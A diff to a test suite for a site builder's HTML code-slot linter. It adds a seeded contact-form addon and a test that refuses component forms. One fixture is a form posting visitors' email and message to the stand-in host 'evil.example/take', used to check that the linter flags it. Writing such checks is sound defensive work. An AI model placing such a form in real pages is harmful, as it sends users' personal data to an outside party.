@@ -9,11 +9,15 @@ test.each([
   ['a copied contact', '<p><a href="tel:+390612345678">+39 06 1234 5678</a></p>', 'no-static-contact'],
   [
     'a form to another host',
-    '<form action="https://evil.example/take" method="post"><label>Mail <input type="email" name="email"></label><button>Send</button></form>',
-    'no-fictitious-form',
+    '<form action="https://evil.example/take" method="post"><label>Mail <input type="email" name="email"></label><label>Message <textarea name="message"></textarea></label><button>Send</button></form>',
+    'no-static-form',
   ],
 ])('HTML of a slot is linted as a canvas is, and errors keep it off: %s', async (_name, code, rule) => {
-  const { ask } = await themeOf();
+  const { ask, site } = await themeOf();
+  const now = (await site.store.get('site', 'site'))?.body as object; // of that kind
+  const form = { status: 'selected', default: 'contact', forms: [{ id: 'contact', title: 'Contact' }] };
+  const body = { ...now, addons: { provider_contact_form: form } };
+  await site.store.write({ by: 'test', action: 'test', writes: [{ kind: 'site', key: 'site', body }] });
   const made = await ask('POST', '/ai/code-slots', slot('a', code));
   expect(made.status).toBe(201);
   expect(rulesOf(made.json.findings)).toContain(rule);
@@ -49,4 +53,12 @@ test('what a parser would refuse is told when the code is saved', async () => {
   const { ask } = await themeOf();
   const { json } = await ask('POST', '/ai/code-slots', slot('a', '<p>Open'));
   expect(json.faults).toMatchObject([{ pointer: '/code', code: 'no-end-tag', line: 1, column: 1 }]);
+});
+
+test('forms by component stand in canvases: in a slot they are told, and keep it off', async () => {
+  const { ask } = await themeOf();
+  const code = '<p><x-addon provider="provider_contact_form"></x-addon></p>';
+  const { json } = await ask('POST', '/ai/code-slots', slot('a', code));
+  expect(json.faults).toMatchObject([{ code: 'refused-element', line: 1, column: 4 }]);
+  expect((await ask('POST', '/ai/code-slots/a/toggle', { enabled: true })).status).toBe(422);
 });
